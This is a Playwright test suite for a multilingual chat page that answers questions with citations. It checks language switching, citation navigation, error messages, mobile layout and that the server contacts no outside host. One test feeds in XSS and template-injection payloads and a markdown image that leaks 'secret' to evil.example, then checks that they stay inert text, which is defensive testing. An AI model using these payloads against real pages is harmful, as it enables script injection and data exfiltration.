"""The page in a real browser: ask in five languages, follow a citation to the words, and nothing else happens."""

from __future__ import annotations

import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from queue import Queue

import pytest
from fake_bot import KEPT, QUESTIONS, FakeBot
from playwright.sync_api import Browser, Page, expect, sync_playwright

from bot import Bot, SettingError, Turn
from bot.languages.locale import locale
from ui.page import serve

LANGUAGES = ("sv", "da", "nl", "en", "ms")
WAIT = 15_000  # milliseconds


def served(bot: object) -> str:
    """The address of a page that answers with this bot, for as long as the tests run."""
    ready: Queue[str] = Queue()
    threading.Thread(target=serve, args=(bot,), kwargs={"port": 0, "ready": ready.put}, daemon=True).start()
    return ready.get(timeout=60)


BOT = FakeBot(writes=True)
CALLED: list[str] = []


def overhear(event: str, arguments: tuple[object, ...]) -> None:
    """Writes down the names that this process looks up and the addresses that it connects to."""
    if event == "socket.getaddrinfo":
        CALLED.append(str(arguments[0]))
    elif event == "socket.connect" and isinstance(arguments[1], tuple):
        CALLED.append(str(arguments[1][0]))


@pytest.fixture(scope="module", params=[BOT], ids=["fake"])
def address(request: pytest.FixtureRequest) -> str:
    sys.addaudithook(overhear)
    return served(request.param)


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(
            executable_path=shutil.which("chromium"),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        yield launched
        launched.close()


class Visit:
    """A page opened in a browser of some language; remembers what it asked for, said and broke."""

    def __init__(self, browser: Browser, address: str, language: str = "en", **options: object) -> None:
        self.page: Page = browser.new_page(locale=language, **options)
        self.page.set_default_timeout(WAIT)
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.goto(address)
        expect(self.page.locator("html")).to_have_attribute("lang", language, timeout=WAIT)

    def ask(self, question: str) -> None:
        turns = self.page.locator(".k-turn").count()
        self.page.locator("#k-box textarea").fill(question)
        self.page.keyboard.press("Enter")
        expect(self.page.locator(".k-turn")).to_have_count(turns + 1, timeout=WAIT)
        expect(self.page.locator("#k-send")).to_be_visible(timeout=WAIT)
        expect(self.page.locator(".k-answer[aria-busy=true]")).to_have_count(0)

    @property
    def answer(self) -> str:
        return self.page.locator(".k-turn").last.inner_text()

    def settled(self, expression: str) -> object:
        return self.page.evaluate(expression)


@pytest.fixture
def visit(chromium: Browser, address: str) -> Iterator[Visit]:
    opened = Visit(chromium, address)
    yield opened
    assert not opened.errors
    opened.page.close()


@pytest.mark.parametrize("language", LANGUAGES)
def test_ask_in_a_language_and_follow_the_citation(chromium: Browser, address: str, language: str) -> None:
    visit = Visit(chromium, address, language)
    page, words = visit.page, locale(language)
    expect(page.locator("#k-box textarea")).to_have_attribute("placeholder", words.page["placeholder"])
    visit.ask(QUESTIONS[language])
    expect(page.locator(".k-quote").first).to_contain_text(KEPT[language])
    expect(page.locator(".k-quote").first).to_have_attribute("lang", language)
    page.locator(".k-chip").nth(1).click()
    card = page.locator(".k-card:visible").nth(1)
    expect(card).to_have_attribute("open", "")
    expect(card.locator("mark").first).to_be_in_viewport()
    expect(card.locator("summary")).to_be_focused()
    page.locator(".k-chip").first.click()
    expect(page.locator(".k-card:visible").first.locator("mark").first).to_have_text(KEPT[language])
    if language != "en":
        expect(page.locator(".k-card:visible .k-original mark").first).to_have_text(KEPT["en"])
        expect(page.locator(".k-card:visible .k-original blockquote").first).to_have_attribute("lang", "en")
    assert not visit.errors
    page.close()


HALF = """(box) => {
    box.value = "How long are backups kept? \\ud800".slice(%d);
    box.dispatchEvent(new Event("input", {bubbles: true}));
}"""


def test_half_a_character_in_a_question_is_answered_or_refused(visit: Visit) -> None:
    for cut, shown in ((0, ".k-quote"), (26, ".k-problem")):
        visit.page.locator("#k-box textarea").evaluate(HALF % cut)
        visit.page.keyboard.press("Enter")
        expect(visit.page.locator(shown).last).to_be_visible(timeout=WAIT)
        expect(visit.page.locator("#k-send")).to_be_visible(timeout=WAIT)
    assert locale("en").page["empty"] in visit.answer


@pytest.fixture(scope="module")
def real_address(demo: Bot) -> str:
    return served(demo)


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_documentation_that_comes_with_it_answers_an_example(
    chromium: Browser, real_address: str, language: str
) -> None:
    visit = Visit(chromium, real_address, language)
    page = visit.page
    expect(page.locator(".k-example").first).to_have_text(locale(language).page["examples"][0], timeout=WAIT)
    page.locator(".k-example").first.click()
    page.locator(f".k-quote[lang={language}] .k-chip").first.click()
    expect(page.locator(".k-card:visible mark").first).to_be_in_viewport()
    expect(page.locator(".k-card:visible .k-shown blockquote").first).to_have_attribute("lang", language)
    assert not visit.errors
    page.close()


def test_a_chip_works_by_keyboard_and_escape_leads_back(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    chip = visit.page.locator(".k-chip").nth(1)
    chip.focus()
    visit.page.keyboard.press("Enter")
    expect(visit.page.locator(".k-card").nth(1).locator("summary")).to_be_focused()
    visit.page.keyboard.press("Escape")
    expect(chip).to_be_focused()


def test_a_chip_of_an_earlier_answer_brings_its_own_cards(visit: Visit) -> None:
    visit.ask(QUESTIONS["sv"])
    visit.ask("Which plans are there?")
    expect(visit.page.locator(".k-card:visible .k-title").first).to_have_text("Plans")
    visit.page.locator(".k-turn").first.locator(".k-chip").first.click()
    expect(visit.page.locator(".k-card:visible mark").first).to_have_text(KEPT["sv"])
    visit.ask("nothing")
    expect(visit.page.locator(".k-card:visible")).to_have_count(0)


def test_a_hostile_document_stays_a_text(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address)
    visit.ask("hostile <img src=x onerror=alert(0)> ${alert(0)} {{x}} $$x^2$$")
    page = visit.page
    page.locator(".k-chip").first.click()
    expect(page.locator(".k-card")).to_contain_text("<script>window.hacked = true; alert(1)</script>")
    expect(page.locator(".k-quote")).to_contain_text("![picture](http://evil.example/collect?data=secret)")
    expect(page.locator(".k-question")).to_have_text("hostile <img src=x onerror=alert(0)> ${alert(0)} {{x}} $$x^2$$")
    page.wait_for_timeout(500)
    assert visit.settled("window.hacked") is None
    assert visit.settled("[...document.scripts].filter(s => /alert|hacked/.test(s.text)).length") == 0
    assert (
        visit.settled(
            "document.querySelectorAll('#k-main :is(script,img,iframe,svg[onload],style,base,.katex)').length"
        )
        == 0
    )
    assert visit.settled("document.querySelectorAll(\"a[href^='javascript']\").length") == 0
    assert not visit.dialogs and not visit.errors
    assert all(url.startswith((address, "data:", "blob:" + address)) for url in visit.requests), visit.requests
    page.close()


def test_the_page_forbids_the_browser_what_it_does_not_need(visit: Visit, address: str) -> None:
    answer = visit.page.request.get(address)
    policy = answer.headers["content-security-policy"]
    assert "connect-src 'self'" in policy and "img-src 'self' data:" in policy and "script-src-attr 'none'" in policy
    assert visit.settled("fetch('http://127.0.0.1:9/x').then(() => 'sent', () => 'refused')") == "refused"
    seen = "document.body.insertAdjacentHTML('beforeend', '<img src=x:y onerror=\"window.hacked=1\">')"
    visit.settled(seen)
    visit.page.wait_for_timeout(200)
    assert visit.settled("window.hacked") is None


def test_the_language_menu_relabels_the_page_and_fixes_the_answer(visit: Visit) -> None:
    for code in LANGUAGES:
        visit.page.locator("#k-language input").click()
        visit.page.get_by_role("option", name=locale(code).name).click()
        words = locale(code).page
        expect(visit.page.locator("html")).to_have_attribute("lang", code)
        expect(visit.page.locator("#k-send")).to_have_text(words["send"])
        expect(visit.page.locator("#k-box textarea")).to_have_attribute("placeholder", words["placeholder"])
        expect(visit.page.locator(".k-welcome")).to_contain_text(words["subtitle"])
        expect(visit.page.locator(".k-heading")).to_have_text(words["sources"])
        expect(visit.page.locator(".k-limits")).to_have_text(words["limits"])
        expect(visit.page.locator(".k-example").first).to_have_text(words["examples"][0])
    visit.ask(QUESTIONS["en"])
    assert KEPT["ms"] in visit.answer
    assert BOT.heard[-1]["language"] == "ms"


def test_left_alone_the_language_is_the_browsers_and_only_a_hint(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "da")
    visit.ask("backup")
    assert BOT.heard[-1] == {"text": "backup", "language": None, "hint": "da", "history": (), "write": False}
    visit.ask(QUESTIONS["sv"])
    assert BOT.heard[-1]["history"] == (Turn("backup", "da"),)
    visit.page.close()


def test_an_example_is_asked_by_a_click(visit: Visit) -> None:
    visit.page.locator(".k-example").first.click()
    expect(visit.page.locator(".k-question")).to_have_text(locale("en").page["examples"][0])
    expect(visit.page.locator(".k-example")).to_have_count(0)


def test_an_error_is_one_sentence_and_the_question_is_not_lost(visit: Visit) -> None:
    visit.ask("broken")
    expect(visit.page.locator(".k-problem")).to_have_text(
        "The model’s server at <localhost> does not answer: start it, or unset KILDE_LLM."
    )
    expect(visit.page.locator("#k-box textarea")).to_have_value("broken")
    visit.ask("crash")
    expect(visit.page.locator(".k-problem").last).to_have_text("Something went wrong.")
    assert "secret" not in visit.page.locator("body").inner_text()
    visit.ask(QUESTIONS["en"])
    assert KEPT["en"] in visit.answer


def test_a_question_without_words_is_answered_in_the_pages_language(chromium: Browser, address: str) -> None:
    visit = Visit(chromium, address, "da")
    visit.page.locator("#k-box textarea").fill("   ")
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_timeout(700)  # nothing is asked
    expect(visit.page.locator(".k-turn")).to_have_count(0)
    visit.ask("?! 😀")
    expect(visit.page.locator(".k-problem")).to_have_text(locale("da").page["empty"])
    visit.page.close()


def test_a_slow_answer_is_stopped_at_once(visit: Visit) -> None:
    visit.page.locator("#k-box textarea").fill("slow")
    visit.page.keyboard.press("Enter")
    expect(visit.page.locator(".k-working")).to_have_text(locale("en").page["working"])
    visit.page.locator("#k-stop").click()
    expect(visit.page.locator(".k-working")).to_have_count(0, timeout=3000)
    visit.ask(QUESTIONS["en"])
    assert KEPT["en"] in visit.answer


def test_a_new_conversation_is_empty(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    visit.page.locator("#k-clear").click()
    expect(visit.page.locator(".k-turn")).to_have_count(0)
    expect(visit.page.locator(".k-card")).to_have_count(0)
    expect(visit.page.locator(".k-example").first).to_be_visible()
    visit.ask("backup")
    assert BOT.heard[-1]["history"] == ()


def test_writing_is_chosen_by_the_reader_and_what_is_left_out_is_listed(visit: Visit) -> None:
    visit.page.get_by_label(locale("en").page["mode_write"]).check()
    visit.ask(QUESTIONS["en"])
    expect(visit.page.locator(".k-written")).to_contain_text(KEPT["en"])
    visit.page.locator(".k-dropped summary").click()
    expect(visit.page.locator(".k-dropped li")).to_contain_text(locale("en").reason("number", number="90"))


def test_the_server_calls_nobody(visit: Visit) -> None:
    visit.ask(QUESTIONS["en"])
    assert set(CALLED) <= {"127.0.0.1", "localhost", "::1", "None"}


def test_without_a_language_model_there_is_no_choice(chromium: Browser) -> None:
    visit = Visit(chromium, served(FakeBot()))
    expect(visit.page.locator("#k-mode")).to_have_count(0)
    visit.page.close()


@pytest.mark.parametrize("question", [QUESTIONS["ms"], "plans", "hostile"])
def test_on_a_telephone_nothing_is_wider_than_the_screen(chromium: Browser, address: str, question: str) -> None:
    visit = Visit(chromium, address, "ms", viewport={"width": 390, "height": 844})
    assert visit.settled("document.documentElement.scrollWidth") == 390
    visit.ask(question)
    visit.page.locator(".k-chip").first.click()
    expect(visit.page.locator(".k-card mark").first).to_be_in_viewport()
    assert visit.settled("document.documentElement.scrollWidth") == 390
    visit.page.locator(".k-back").click()
    expect(visit.page.locator(".k-chip").first).to_be_in_viewport()
    visit.page.close()


def test_a_taken_port_is_said_in_one_sentence() -> None:
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(SettingError, match=f"{port}.*--port"):
            serve(FakeBot(), port=port)
